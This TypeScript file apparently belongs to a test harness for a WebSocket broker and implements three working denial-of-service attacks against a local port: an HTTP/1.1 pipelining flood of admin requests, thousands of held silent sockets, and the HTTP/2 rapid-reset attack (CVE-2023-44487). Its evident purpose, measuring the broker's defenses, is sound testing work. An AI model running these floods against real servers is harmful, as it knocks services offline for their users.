import { connect as connectHttp2, constants, type ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { type AttackerReport } from './attacker-report.js';

/**
 * Attacks below the WebSocket messages (issue 37): what an unauthenticated client does with bare
 * connections. Each runs from the attacker's own address until `until` (performance.now()), opening
 * connections again as fast as the broker closes them, and reports what the broker answered.
 */
export interface ConnectionAttackTarget {
  readonly port: number;
  readonly localAddress: string;
}

/** Requests one pipelining connection keeps outstanding: the most the broker queues (it closes past that). */
const PIPELINE_DEPTH = 32;
export const PIPELINED_REQUEST = 'GET /admin/v1/endpoints HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';

/**
 * HTTP/1.1 pipelining: PIPELINE_DEPTH admin GETs written at once on one connection, again as the
 * answers come; a closed connection is opened again. `answered`: responses read (by their status line).
 */
export async function pipelining(target: ConnectionAttackTarget, until: number): Promise<AttackerReport> {
  let answered = 0;
  let reconnects = -1;
  while (performance.now() < until) {
    reconnects++;
    answered += await new Promise<number>((resolve) => {
      let responses = 0;
      let outstanding = 0;
      let tail = '';
      const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: target.localAddress });
      const stop = setTimeout(() => socket.destroy(), Math.max(0, until - performance.now())).unref();
      const fill = (): void => {
        if (outstanding > PIPELINE_DEPTH / 2) return;
        socket.write(PIPELINED_REQUEST.repeat(PIPELINE_DEPTH - outstanding));
        outstanding = PIPELINE_DEPTH;
      };
      socket.once('connect', fill);
      socket.on('data', (chunk: Buffer) => {
        // Status lines only: the bodies are JSON and never hold "HTTP/1.1 " followed by a status.
        const text = tail + chunk.toString('latin1');
        const found = text.match(/HTTP\/1\.1 \d{3} /g)?.length ?? 0;
        tail = text.slice(-16);
        responses += found;
        outstanding -= found;
        fill();
      });
      socket.on('error', () => socket.destroy());
      socket.once('close', () => {
        clearTimeout(stop);
        resolve(responses);
      });
    });
  }
  return { answered, reconnects: Math.max(0, reconnects), refused: 0 };
}

/** Connections the attacker holds open without sending a byte (the broker's per-address share is 256). */
const SILENT_HELD = 2048;

/**
 * Silent sockets: up to SILENT_HELD connections that never send a request, each opened again as soon
 * as the broker drops one (at accept past the address's share of silent sockets, or at the head
 * timeout). `answered`: connections the broker closed.
 */
export async function silentSockets(target: ConnectionAttackTarget, until: number): Promise<AttackerReport> {
  let answered = 0;
  const open = new Set<Socket>();
  await new Promise<void>((resolve) => {
    const openOne = (): void => {
      if (performance.now() >= until) {
        if (open.size === 0) resolve();
        return;
      }
      const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: target.localAddress });
      open.add(socket);
      socket.on('error', () => socket.destroy());
      socket.once('close', () => {
        open.delete(socket);
        if (performance.now() < until) answered++;
        // Past the window no new one opens; the last to close ends the attack.
        setImmediate(openOne);
      });
    };
    for (let i = 0; i < SILENT_HELD; i++) openOne();
    setTimeout(
      () => {
        for (const socket of open) socket.destroy();
      },
      Math.max(0, until - performance.now()),
    ).unref();
  });
  return { answered, reconnects: answered, refused: 0 };
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487): on a cleartext HTTP/2 connection, a GET opened and reset at
 * once, again and again; when the broker (Node) answers GOAWAY or closes, a new connection. `answered`:
 * streams opened and reset.
 */
export async function http2RapidReset(
  target: ConnectionAttackTarget,
  until: number,
): Promise<AttackerReport> {
  let answered = 0;
  let reconnects = -1;
  while (performance.now() < until) {
    reconnects++;
    answered += await new Promise<number>((resolve) => {
      let streams = 0;
      const session: ClientHttp2Session = connectHttp2(`http://127.0.0.1:${target.port}`, {
        createConnection: () =>
          connect({ port: target.port, host: '127.0.0.1', localAddress: target.localAddress }),
      });
      const stop = setTimeout(() => session.destroy(), Math.max(0, until - performance.now())).unref();
      const burst = (): void => {
        if (session.closed || session.destroyed || performance.now() >= until) return;
        // A batch per turn: the resets go out back to back, as the attack's clients send them.
        for (let i = 0; i < 100 && !session.closed && !session.destroyed; i++) {
          try {
            const stream = session.request({ ':path': '/health' });
            stream.on('error', () => undefined);
            stream.close(constants.NGHTTP2_CANCEL);
            streams++;
          } catch {
            session.destroy();
            return;
          }
        }
        setImmediate(burst);
      };
      session.once('connect', burst);
      session.on('error', () => session.destroy());
      session.once('goaway', () => session.destroy());
      session.once('close', () => {
        clearTimeout(stop);
        resolve(streams);
      });
    });
  }
  return { answered, reconnects: Math.max(0, reconnects), refused: 0 };
}
